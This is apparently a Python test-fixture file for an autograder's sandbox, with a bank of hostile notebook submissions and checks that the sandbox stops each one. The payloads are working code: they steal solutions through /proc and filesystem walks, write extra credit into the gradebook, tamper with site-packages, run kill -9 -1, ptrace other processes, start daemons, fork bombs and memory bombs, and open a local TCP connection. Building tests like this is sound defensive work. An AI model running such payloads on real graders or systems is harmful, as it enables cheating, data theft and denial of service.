"""The hostile bank (issue 9): submissions that attack the grading machine, not the tests.

Each payload sits in the answer cell of Q3 (after the class), in a submission that is otherwise
right (it must keep full marks: the attack cost the grader nothing) or wrong in (d) (it must
keep its 0 there: whatever it stole or wrote gained nothing). tests/test_sandbox.py grades the
whole bank in ONE batch through the CLI and checks the machine afterwards: no process of a
submission left (``TAG`` in the argv of whatever a payload leaves running), the course, the
kit and the gradebook unchanged except where grading writes, no TCP connection reached the
listener on ``LISTEN_PORT``.
"""
from __future__ import annotations

import socket
import textwrap
from pathlib import Path

from fixtures_tamper import Q3, WRONG_D, append_to, q3

REPO = str(Path(__file__).resolve().parents[1])
TAG = "attnkit-hostile-canary"


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("0.0.0.0", 0))
        return s.getsockname()[1]


LISTEN_PORT = _free_port()

# Copy the q3_mha answer out of any notebook found and run it in the notebook's namespace.
STEAL = f'''
import glob as _g, json as _j, os as _o
_Q3 = "{Q3}.ipynb"
_REPO = "{REPO}"
def _steal(paths, marker="BEGIN SOLUTION"):
    tried = 0
    for _p in paths:
        try:
            _nb = _j.loads(open(_p, "rb").read())
        except Exception:
            continue
        tried += 1
        for _c in _nb.get("cells", []) if isinstance(_nb, dict) else []:
            _src = "".join(_c.get("source", ""))
            if (_c.get("metadata", {{}}).get("nbgrader", {{}}).get("grade_id") == "q3_mha" and marker in _src
                    and "attnkit-hostile" not in _src):
                exec(_src.replace("### ", "# "), globals())
                print("STOLEN from", _p)
                return True
    print("nothing stolen; notebooks readable:", tried)
    return False
_pids = [p for p in _o.listdir("/proc") if p.isdigit()]
'''


def _guarded(code: str) -> str:
    """The attack, then on with the notebook whatever happens."""
    return "try:\n" + textwrap.indent(code.strip("\n"), "    ") + \
        "\nexcept BaseException as _e:\n    print('attack failed:', type(_e).__name__, str(_e)[:200])\n"


def _ups(suffix, depth=6):
    return "[" + ", ".join(f'"{"../" * d}{suffix}"' for d in range(depth)) + "]"


PROC_CWD = STEAL + f'''
_paths = []
for _p in _pids:
    for _rel in {_ups("source/hw9/" + Q3 + ".ipynb")} + {_ups("attnkit-*/source/hw9/" + Q3 + ".ipynb")}:
        _paths += _g.glob(f"/proc/{{_p}}/cwd/{{_rel}}")
_steal(_paths)
'''

PROC_ROOT = STEAL + '''
_paths = []
for _p in _pids:
    _paths += [f"/proc/{_p}/root{_REPO}/source/hw9/{_Q3}"] + _g.glob(f"/proc/{_p}/root/tmp/attnkit-*/source/hw9/{_Q3}")
_steal(_paths)
'''

PROC_FD = STEAL + '''
_paths = []
for _p in _pids:
    for _fd in _g.glob(f"/proc/{_p}/fd/*"):
        if _o.path.isfile(_fd):         # a pipe or a socket would block the read
            _paths.append(_fd)
        _paths += _g.glob(_fd + "/source/hw9/" + _Q3) + _g.glob(_fd + "/../source/hw9/" + _Q3)
        _paths += _g.glob(_fd + "/submitted/*/hw9/" + _Q3)
_steal(_paths)
'''

ENVIRON = STEAL + '''
_vals = list(_o.environ.values())
for _p in _pids:
    try:
        _vals += open(f"/proc/{_p}/environ", "rb").read().decode(errors="replace").split("\\0")
    except OSError:
        pass
_paths = []
for _v in _vals:
    for _part in _v.replace("=", ":").split(":"):
        if _part.startswith("/"):
            _d = _part
            for _ in range(6):
                _paths += [f"{_d}/source/hw9/{_Q3}"] + _g.glob(f"{_d}/attnkit-*/source/hw9/{_Q3}")
                _d = _o.path.dirname(_d)
print("environment names:", sorted(_o.environ))
_steal(_paths)
'''

EDITABLE = STEAL + '''
import re as _re, site as _site, sys as _sys
_paths = []
for _sp in _sys.path:
    for _f in _g.glob(_sp + "/__editable__*") + _g.glob(_sp + "/*.pth"):
        for _m in _re.findall(r"/[\\w./-]+", open(_f).read()):
            _d = _m
            for _ in range(3):
                _paths += [f"{_d}/source/hw9/{_Q3}"]
                _d = _o.path.dirname(_d)
_steal(_paths + [f"{_REPO}/source/hw9/{_Q3}"])
'''

TMP_AND_KNOWN = STEAL + '''
_steal(_g.glob(f"/tmp/attnkit-*/source/hw9/{_Q3}") + _g.glob(f"/tmp/*/source/hw9/{_Q3}")
       + _g.glob(f"/var/tmp/*/source/hw9/{_Q3}") + _g.glob(f"/work/*/source/hw9/{_Q3}")
       + _g.glob(f"/tmp/attnkit-*/autograded/*/hw9/{_Q3}") + [f"{_REPO}/source/hw9/{_Q3}"])
'''

WALK = STEAL + f'''
import time as _t
_paths, _t0, _seen = {_ups("source/hw9/" + Q3 + ".ipynb", 8)}, _t.time(), 0
for _top, _dirs, _files in _o.walk("/"):
    _dirs[:] = [d for d in _dirs if _o.path.join(_top, d) not in ("/proc", "/sys", "/usr", "/dev")
                and "site-packages" not in d and "python3" not in d]
    _seen += len(_files)
    _paths += [_o.path.join(_top, f) for f in _files if f.endswith(".ipynb") or f.startswith("gradebook")]
    if _t.time() - _t0 > 20:
        break
print("walked", _seen, "files")
_steal(_paths)
'''

OTHER_STUDENT = STEAL + f'''
_paths = _g.glob(f"/tmp/attnkit-*/submitted/*/hw9/{{_Q3}}") + _g.glob(f"/tmp/attnkit-*/autograded/*/hw9/{{_Q3}}")
for _p in _pids:
    _paths += _g.glob(f"/proc/{{_p}}/root/tmp/attnkit-*/submitted/*/hw9/{{_Q3}}")
    _paths += _g.glob(f"/proc/{{_p}}/cwd/../../../*/hw9/{{_Q3}}")
_paths += [f"{{'../' * d}}submitted/hostile-plain-right/hw9/{{_Q3}}" for d in range(6)]
_steal(_paths, marker="torch.softmax(attn_scores, dim=-1)")
'''

GRADEBOOK_WRITE = STEAL + '''
import sqlite3 as _sq
_dbs = _g.glob("/tmp/attnkit-*/gradebook.db") + [f"{_REPO}/gradebook.db"]
for _p in _pids:
    _dbs += _g.glob(f"/proc/{_p}/root/tmp/attnkit-*/gradebook.db") + _g.glob(f"/proc/{_p}/cwd/gradebook.db")
for _db in _dbs:
    try:
        _con = _sq.connect(_db, timeout=5)
        _con.execute("update grade set extra_credit = 5")
        _con.commit()
        print("WROTE", _db)
    except Exception as _e:
        print("could not write", _db, type(_e).__name__)
'''

AUTOGRADED_WRITE = STEAL + '''
_targets = _g.glob("/tmp/attnkit-*/autograded/*/hw9") + _g.glob("/tmp/attnkit-*/source/hw9") + \\
    _g.glob("/tmp/attnkit-*/release/hw9") + [f"{_REPO}/source/hw9", f"{_REPO}/release/hw9"]
for _p in [p for p in _pids if p != str(_o.getpid())]:   # its own working folder is its to write
    _targets += _g.glob(f"/proc/{_p}/root/tmp/attnkit-*/autograded/*/hw9") + _g.glob(f"/proc/{_p}/cwd")
for _t in _targets:
    try:
        open(_o.path.join(_t, "attnkit-hostile-canary.txt"), "w").write("owned")
        print("WROTE into", _t)
    except Exception as _e:
        print("could not write", _t, type(_e).__name__)
'''

KIT_WRITE = '''
import os as _o, sys as _sys, attnkit, attnkit.guard
_targets = [_o.path.join(p, "sitecustomize.py") for p in _sys.path if "site-packages" in p]
_targets += [attnkit.guard.__file__, _o.path.join(_o.path.dirname(attnkit.__file__), "attnkit-hostile-canary.py"),
             _o.path.join(_sys.prefix, "bin", "attnkit-hostile-canary"), "attention_checks.py"]
for _t in _targets:
    try:
        with open(_t, "a") as _f:
            _f.write("\\nprint('attnkit-hostile-canary')\\n")
        print("WROTE", _t)
    except Exception as _e:
        print("could not write", _t, type(_e).__name__)
'''

KILL_PARENT = '''
import os as _o, signal as _s
_o.kill(_o.getppid(), _s.SIGKILL)
'''

KILL_ATTNKIT = '''
import os as _o, signal as _s
for _p in [p for p in _o.listdir("/proc") if p.isdigit() and int(p) != _o.getpid()]:
    try:
        if b"attnkit" in open(f"/proc/{_p}/cmdline", "rb").read():
            _o.kill(int(_p), _s.SIGKILL)
            print("killed", _p)
    except Exception as _e:
        print("could not kill", _p, type(_e).__name__)
'''

KILL_ALL = f'''
import os as _o, signal as _s, subprocess as _sp
_victim = _sp.Popen(["/bin/sh", "-c", "sleep 1000; exit 0", "{TAG}-victim"])  # something in view to kill
_o.kill(-1, _s.SIGKILL)
print("kill -9 -1 done; own child", "killed" if _victim.wait() == -9 else "alive")
'''

DAEMON = f'''
import os as _o, subprocess as _sp, sys as _sys
_sp.Popen(["/bin/sh", "-c", "sleep 1000; exit 0", "{TAG}-popen"], start_new_session=True,
          stdout=_sp.DEVNULL, stderr=_sp.DEVNULL)
if _o.fork() == 0:
    _o.setsid()
    if _o.fork() == 0:
        _o.execv("/bin/sh", ["sh", "-c", "sleep 1000; exit 0", "{TAG}-daemon"])
    _o._exit(0)
_o.wait()
print("daemons started")
'''

FORK_BOMB = f'''
import os as _o, time as _t
if _o.fork() == 0:
    _o.setsid()
    _t0 = _t.time()
    while True:          # every process forks forever; each waits a little when the limit says no
        try:
            _o.fork()
        except OSError:
            _t.sleep(0.2)
_t.sleep(3)
print("fork bomb running")
'''

BIG_FILE = '''
for _name, _how in (("big.bin", "stream"), ("sparse.bin", "seek"), ("/tmp/big.bin", "stream")):
    try:
        with open(_name, "wb") as _f:
            if _how == "seek":
                _f.seek(10 * 2 ** 30)
                _f.write(b"x")
            else:
                for _i in range(10 * 1024):
                    _f.write(b"\\0" * 2 ** 20)
        print("wrote", _name)
    except OSError as _e:
        print("could not write", _name, type(_e).__name__, _e.errno)
import os as _o
for _n in ("big.bin", "sparse.bin"):
    if _o.path.exists(_n):
        _o.remove(_n)
'''

MEMORY_BOMB = '''
import torch as _torch
for _ask in (lambda: bytearray(10 ** 11), lambda: _torch.empty(2 ** 40), lambda: [bytearray(2 ** 30) for _ in range(64)]):
    try:
        _x = _ask()
        print("got the memory")
    except (MemoryError, RuntimeError) as _e:
        print("out of memory, as expected:", type(_e).__name__)
    _x = None
'''

TCP = f'''
import socket as _so
for _host in ("127.0.0.1", "::1", _so.gethostname()):
    try:
        _c = _so.create_connection((_host, {LISTEN_PORT}), timeout=3)
        _c.sendall(b"{TAG}")
        print("CONNECTED to", _host)
    except Exception as _e:
        print("no connection to", _host, type(_e).__name__)
'''

PTRACE_SIGNAL = '''
import ctypes as _ct, os as _o, signal as _s
_libc = _ct.CDLL(None, use_errno=True)
for _p in [int(p) for p in _o.listdir("/proc") if p.isdigit() and int(p) != _o.getpid()]:
    _r = _libc.ptrace(16, _p, None, None)          # PTRACE_ATTACH
    print("ptrace", _p, "ok" if _r == 0 else _o.strerror(_ct.get_errno()))
    for _sig in (_s.SIGSTOP, _s.SIGTERM):
        try:
            _o.kill(_p, _sig)
            print("signalled", _p)
        except OSError as _e:
            print("could not signal", _p, _e.strerror)
'''


# What the payload's own output must show (the attack ran, and was stopped) and must never show.
EVIDENCE = {"hostile-kit-write": "could not write", "hostile-kill-parent": "attack failed: PermissionError",
            "hostile-kill-attnkit": "could not kill 1", "hostile-kill-all": "kill -9 -1 done; own child killed",
            "hostile-daemon": "daemons started", "hostile-ptrace-signal": "ptrace 1 Operation not permitted",
            "hostile-tcp": "no connection to 127.0.0.1", "hostile-fork-bomb": "fork bomb running",
            "hostile-big-file": "could not write big.bin", "hostile-memory-bomb": "out of memory, as expected",
            "hostile-gradebook-write": "could not write", "hostile-autograded-write": "could not write"}
FORBIDDEN = ("STOLEN", "WROTE", "CONNECTED", "got the memory", "ptrace 1 ok", "wrote big.bin", "wrote sparse.bin")


def right(student, payload, why):
    return q3(student, mutate=append_to("q3_mha", _guarded(payload)), why=why)


def wrong(student, payload, why):
    return q3(student, WRONG_D, {"q3d_scores": 0}, {"q3d_scores": "(d)"},
              mutate=append_to("q3_mha", _guarded(payload)), why=why)


HOSTILE = [
    q3("hostile-plain-right", why="a plain right answer among the attackers keeps full marks"),
    # -- reading the instructor's notebook (wrong (d) + the stolen solution run over it: still 0 on (d))
    wrong("hostile-proc-cwd", PROC_CWD, "the solution through /proc/<pid>/cwd of a grader process"),
    wrong("hostile-proc-root", PROC_ROOT, "the solution through /proc/<pid>/root (the grader's whole filesystem)"),
    wrong("hostile-proc-fd", PROC_FD, "the solution through /proc/<pid>/fd of any process"),
    wrong("hostile-environ", ENVIRON, "course paths from the environment (own and /proc/*/environ)"),
    wrong("hostile-editable-pth", EDITABLE, "the repo path from the venv's editable-install .pth / finder"),
    wrong("hostile-tmp-glob", TMP_AND_KNOWN, "/tmp/attnkit-*, /work/*, the repo's absolute path"),
    wrong("hostile-walk", WALK, "../ from the working folder and a walk of the whole filesystem"),
    wrong("hostile-other-student", OTHER_STUDENT, "another student's submission (a right answer) copied"),
    # -- writing where grading writes
    wrong("hostile-gradebook-write", GRADEBOOK_WRITE, "extra credit written into any gradebook found"),
    wrong("hostile-autograded-write", AUTOGRADED_WRITE, "files written into autograded/, source/, release/"),
    right("hostile-kit-write", KIT_WRITE, "sitecustomize.py into the venv, the guard, the kit, the helper"),
    # -- stopping or escaping the grader
    right("hostile-kill-parent", KILL_PARENT, "os.kill(os.getppid(), SIGKILL)"),
    right("hostile-kill-attnkit", KILL_ATTNKIT, "SIGKILL to every process whose command line has 'attnkit'"),
    right("hostile-kill-all", KILL_ALL, "kill -9 -1"),
    right("hostile-daemon", DAEMON, "a double-forked daemon in a new session and a Popen(start_new_session=True)"),
    right("hostile-ptrace-signal", PTRACE_SIGNAL, "ptrace and SIGSTOP/SIGTERM every process in view"),
    right("hostile-tcp", TCP, "a TCP connection to a listener on the grading machine"),
    # -- resources
    right("hostile-fork-bomb", FORK_BOMB, "a fork bomb left running"),
    right("hostile-big-file", BIG_FILE, "a 10 GB file (streamed and sparse)"),
    right("hostile-memory-bomb", MEMORY_BOMB, "100 GB and 1 TB asked for, 64 GiB touched"),
]

for _fx in HOSTILE:
    if _fx.student != "hostile-plain-right":
        _fx.evidence = EVIDENCE.get(_fx.student, "nothing stolen")

# No FIXTURES name: `kit integrity` (which may run unsandboxed) must never pick up this bank;
# kill -9 -1 as the grader's own user is not a test to run outside the sandbox.
NOTEBOOKS = [Q3]
